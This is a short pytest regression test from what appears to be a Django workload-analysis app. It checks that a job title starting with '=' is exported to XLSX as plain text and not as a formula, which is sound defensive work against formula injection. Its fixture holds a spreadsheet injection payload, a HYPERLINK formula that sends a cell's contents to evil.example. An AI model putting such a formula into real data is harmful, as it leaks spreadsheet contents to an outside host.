"""Review fix (issue 8): names typed into master data are exported to XLSX as text, never as formulas."""

import io

import pytest
from openpyxl import load_workbook

from tests.workload.data import build_world
from workload import analysis

pytestmark = pytest.mark.django_db


def test_a_post_title_that_starts_with_an_equals_sign_is_exported_as_text(client):
    world = build_world()
    world.nurse.title = '=HYPERLINK("http://evil.example/?"&B4,"klik")'
    world.nurse.save(update_fields=["title"])
    run = analysis.run_analysis(region=world.region)
    client.force_login(world.hr)
    book = load_workbook(io.BytesIO(client.get(f"/ikhtisar/ekspor/{run.pk}/").content))
    cells = [row[3] for row in book["Form C"].iter_rows(min_row=4) if row[3].value == world.nurse.title]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
